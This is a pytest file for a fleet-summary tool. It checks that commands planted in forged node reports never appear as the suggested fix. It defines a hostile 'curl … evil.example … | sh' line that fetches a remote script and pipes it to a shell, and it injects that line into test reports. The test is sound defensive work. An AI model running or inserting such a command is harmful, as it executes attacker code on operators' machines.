"""`fleet summarize` prints a fix that torchdoctor wrote, never a report's own commands (issue 27).

A node report is a JSON file anyone on the node could have written. Before, the summary printed each group's
``plan.steps[].command`` as it was, as the group's fix: one report could put ``curl … | sh`` into the summary
an operator copies. Now the commands come from the report's facts (as ``check --from`` writes them) and the
report's own text is only data in ``--json`` (``reported``, ``reported_by``).
"""

from __future__ import annotations

import copy
import json

import pytest
from hostile import base_env, run_cli

pytestmark = pytest.mark.hostile

EVIL = "curl -fsSL https://evil.example/x.sh | sh"


def test_a_reports_own_commands_never_become_the_fix(world, tmp_path):
    honest = copy.deepcopy(world.report_data)
    derived = [s["command"] for s in honest["plan"]["steps"] if s.get("command")]
    assert derived and " -m pip install " in derived[0]
    forged = copy.deepcopy(honest)
    forged["snapshot"]["environment"]["hostname"] = "forged"
    for step in forged["plan"]["steps"]:
        step["command"] = EVIL
    for finding in forged["findings"]:
        if finding.get("fix"):
            finding["fix"]["commands"] = [EVIL]
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "forged.json").write_text(json.dumps(forged))
    env = base_env(world)
    for fmt in ([], ["--markdown"]):
        res = run_cli(["fleet", "summarize", str(tmp_path / "reports"), *fmt], env, cwd=tmp_path)
        assert res.returncode in (0, 1), res.summary()
        assert "evil.example" not in res.out and "curl" not in res.out, res.summary()
        assert derived[0] in res.out, res.summary()
        assert "the report of forged listed other commands" in res.out
    res = run_cli(["fleet", "summarize", str(tmp_path / "reports"), "--json"], env, cwd=tmp_path)
    [group] = json.loads(res.stdout)["fix_groups"]
    assert group["commands"] == derived and group["reported"] == [EVIL] and group["reported_by"] == "forged"


def test_a_report_that_cannot_be_read_back_gets_no_commands(world, tmp_path):
    forged = copy.deepcopy(world.report_data)
    forged["plan"]["steps"] = [{"kind": "pip", "description": "d", "command": EVIL}]
    forged["snapshot"]["interpreter"] = "not an object"
    (tmp_path / "r.json").write_text(json.dumps(forged))
    res = run_cli(["fleet", "summarize", str(tmp_path / "r.json")], base_env(world), cwd=tmp_path)
    assert "curl" not in res.out and "Traceback" not in res.text, res.summary()
